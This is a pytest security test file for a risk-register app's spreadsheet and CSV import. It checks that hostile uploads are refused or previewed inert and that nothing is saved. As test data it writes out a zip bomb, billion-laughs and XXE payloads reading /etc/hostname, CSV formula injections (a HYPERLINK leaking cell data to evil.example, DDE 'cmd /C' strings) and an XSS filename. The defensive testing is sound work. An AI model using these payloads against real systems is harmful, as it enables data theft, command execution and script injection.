"""Hostile uploads to the register import (/reports/import, the risk manager's): each is refused
with a clear message, or previewed inert, and nothing is saved in any case.

The import's own behaviour (columns, rows, all-or-nothing confirm) is tested in
tests/reports/test_imports.py; this file is the attacker's view of the same door.
"""
from __future__ import annotations

import configparser
import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from riskapp.auth.models import User
from riskapp.extensions import db as _db
from riskapp.risks.models import Risk

ROOT = Path(__file__).parents[2]
SHEET = "xl/worksheets/sheet1.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def everything(db) -> dict[str, list]:
    """Every row of every table, to show an upload changed nothing at all."""
    return {table.name: sorted(map(repr, db.session.execute(select(table)).all()))
            for table in _db.metadata.sorted_tables
            # Not the record: a session's last-seen time, the work asked for (the check of
            # an upload is a job), and the rate limits' counters.
            if table.name not in ("user_sessions", "jobs", "rate_limit_counters")}


@pytest.fixture
def manager(auth, baf):
    user = baf.session.scalar(select(User).where(User.email == "risk.manager@example.org"))
    user.set_password("pw-for-tests-123")
    baf.session.commit()
    auth.login(user, "pw-for-tests-123")
    return user


@pytest.fixture
def before(baf, manager):
    baf.session.commit()
    return everything(baf)


BOUNDARY = "riskapp-test-boundary"


def multipart(data: bytes, filename: str) -> bytes:
    """A browser's multipart body, built here: the test client spools large files to temporary
    files that it never closes (a ResourceWarning, an error under filterwarnings=error)."""
    return (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'
            ).encode() + data + f"\r\n--{BOUNDARY}--\r\n".encode()


def upload(client, data: bytes, filename: str):
    """Upload, then follow to what the check found (the worker's job: at once in tests)."""
    return client.post("/reports/import", data=multipart(data, filename),
                       content_type=f"multipart/form-data; boundary={BOUNDARY}",
                       follow_redirects=True)


def export(client, path="/reports/export/register.xlsx") -> bytes:
    response = client.get(path)
    assert response.status_code == 200
    return response.data


def rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """The workbook `data` with some of its parts replaced."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            target.writestr(member.filename, replace.get(member.filename)
                            or source.read(member.filename))
    return out.getvalue()


def refused(client, data: bytes, filename: str, message: str) -> str:
    response = upload(client, data, filename)
    page = response.get_data(as_text=True)
    assert response.status_code == 422, page[:2000]
    assert message in page
    assert "<title>Error: " in page  # the page says it is a refusal
    assert "/confirm" not in page  # no confirm form: nothing can be applied from here
    return page


def unchanged(db, before) -> None:
    db.session.expire_all()
    assert everything(db) == before


def test_openpyxl_parses_xml_with_defusedxml():
    assert openpyxl.DEFUSEDXML is True
    setup = configparser.ConfigParser()
    setup.read(ROOT / "setup.cfg")
    requires = setup["options"]["install_requires"].split()
    assert any(r.startswith("defusedxml") for r in requires)


def test_a_zip_bomb_is_refused(client, app, db, before, monkeypatch):
    def must_not_open(*args, **kwargs):
        raise AssertionError("openpyxl opened the bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", must_not_open)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        for n in range(3):  # 3 x 30 MB of zeros: 90 MB from a few hundred KB
            z.writestr(f"xl/worksheets/sheet{n + 1}.xml", b"\0" * (30 * 1024 * 1024))
    assert len(bomb.getvalue()) < 500_000
    refused(client, bomb.getvalue(), "register.xlsx", "unpacks to more than 50.0 MB")
    unchanged(db, before)


@pytest.mark.parametrize("content", [
    b"Reference,Title\nBAF0001,Hello\n",  # a CSV renamed
    b"%PDF-1.7\n1 0 obj << >> endobj\n",  # a PDF renamed
    b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200,  # a Windows program renamed
])
def test_a_file_named_xlsx_that_is_not_a_workbook_is_refused(client, db, before, content):
    refused(client, content, "register.xlsx", "it is named .xlsx but is not an Excel workbook")
    unchanged(db, before)


@pytest.mark.parametrize("part, replacement", [
    (SHEET, None),  # the sheet cut in half
    ("xl/workbook.xml", b"<workbook><sheets><sheet name="),
    (SHEET, b"\xff\xfe not xml at all \x00\x01"),
])
def test_a_malformed_workbook_is_refused(client, db, before, part, replacement):
    data = export(client)
    if replacement is None:
        whole = zipfile.ZipFile(io.BytesIO(data)).read(part)
        replacement = whole[:len(whole) // 2]
    refused(client, rezip(data, {part: replacement}), "register.xlsx",
            "The selected file is not a spreadsheet that can be read")
    unchanged(db, before)


@pytest.mark.parametrize("doctype, text", [
    # Billion laughs: entities that expand to gigabytes.
    ('<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
     '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>', "&c;"),
    # XXE: an external entity reading a file of the server.
    ('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]>', "&x;"),
])
def test_xml_entities_in_a_workbook_are_refused_not_expanded(client, db, before, doctype, text):
    sheet = (f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{MAIN}"><sheetData>'
             f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'
             f'</sheetData></worksheet>').encode()
    page = refused(client, rezip(export(client), {SHEET: sheet}), "register.xlsx",
                   "The selected file is not a spreadsheet that can be read")
    assert "aaaaaaaaaaaaaaaaaaaa" not in page
    hostname = Path("/etc/hostname")
    if hostname.exists() and hostname.read_text().strip():
        # As a word of what the page says: a short host name ("vm") turns up by chance inside
        # the random CSRF tokens in the page's attributes.
        words = re.findall(r"[\w.-]+", re.sub(r"<[^>]*>", " ", page))
        assert hostname.read_text().strip() not in words
    unchanged(db, before)


def test_an_oversized_file_is_refused(client, app, db, before):
    limit = app.config["IMPORT_MAX_BYTES"]
    big = export(client, "/reports/export/risks.csv") + b"\n" * (limit + 1)
    refused(client, big, "risks.csv", "must be smaller than 2.0 MB")
    unchanged(db, before)


def test_a_request_over_the_server_limit_is_cut_off(client, app, db, before):
    app.config["MAX_CONTENT_LENGTH"] = 256 * 1024
    response = upload(client, b"x" * (512 * 1024), "risks.csv")
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "Traceback" not in page and "RequestEntityTooLarge" not in page
    unchanged(db, before)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)",
            "\t=1+1", "'=1+1"]


def _with_titles(csv_bytes: bytes, titles: list[str]) -> bytes:
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
    column = rows[0].index("Title")
    for row, title in zip(rows[1:], titles):
        row[column] = title
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def test_formula_cells_are_previewed_as_text_and_nothing_is_saved(client, db, before):
    data = _with_titles(export(client, "/reports/export/risks.csv"), FORMULAS)
    response = upload(client, data, "risks.csv")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "&#34;http://evil.example/?&#34;&amp;A1" in page  # shown as text, escaped
    assert 'href="http://evil.example' not in page
    unchanged(db, before)


def test_formula_cells_once_confirmed_are_stored_verbatim_and_exported_inert(client, db, before):
    """Titles are the board's words: kept exactly, never run in anyone's spreadsheet."""
    data = _with_titles(export(client, "/reports/export/risks.csv"), FORMULAS)
    preview = upload(client, data, "risks <b>v2</b>.csv").get_data(as_text=True)
    address = re.search(r'action="(/reports/import/\d+/confirm)"', preview).group(1)
    saved = client.post(address, follow_redirects=True)
    assert saved.status_code == 200
    outcome = saved.get_data(as_text=True)
    assert "Import saved" in outcome and "risks &lt;b&gt;v2&lt;/b&gt;.csv" in outcome
    db.session.expire_all()
    titles = list(db.session.scalars(select(Risk.title).order_by(Risk.reference)
                                     .limit(len(FORMULAS))))
    # Kept as typed, bar what every import does to every cell: surrounding blanks trimmed,
    # and one apostrophe before formula-like text dropped (the export adds it; see exports.py).
    stored = FORMULAS[:4] + ["=1+1", "=1+1"]
    assert titles == stored
    # Every export cell starting with = + - @ tab or ' gets one more apostrophe: inert text.
    exported = list(csv.reader(io.StringIO(export(client, "/reports/export/risks.csv")
                                           .decode("utf-8-sig"))))
    column = exported[0].index("Title")
    assert [row[column] for row in exported[1:len(FORMULAS) + 1]] == ["'" + t for t in stored]
    workbook = openpyxl.load_workbook(io.BytesIO(export(client)))
    sheet = workbook["Risks"]
    headers = [c.value for c in sheet[1]]
    cells = [sheet.cell(row=n + 2, column=headers.index("Title") + 1)
             for n in range(len(FORMULAS))]
    assert all(c.data_type == "s" for c in cells)  # text, not a formula
    assert [c.value for c in cells] == ["'" + t for t in stored]


def test_a_filename_with_markup_is_shown_back_escaped(client, db, before):
    name = "<script>alert('import')</script><img src=x onerror=alert(1)>.csv"
    preview = upload(client, export(client, "/reports/export/risks.csv"), name)
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert ("&lt;script&gt;alert(&#39;import&#39;)&lt;/script&gt;&lt;img src=x "
            "onerror=alert(1)&gt;.csv") in page
    assert "<script>alert" not in page and "<img src=x" not in page
    refusal = refused(client, b"Name,Score\nA,5\n", name, "does not have the columns")
    assert "<script>alert" not in refusal and "<img src=x" not in refusal
    unchanged(db, before)
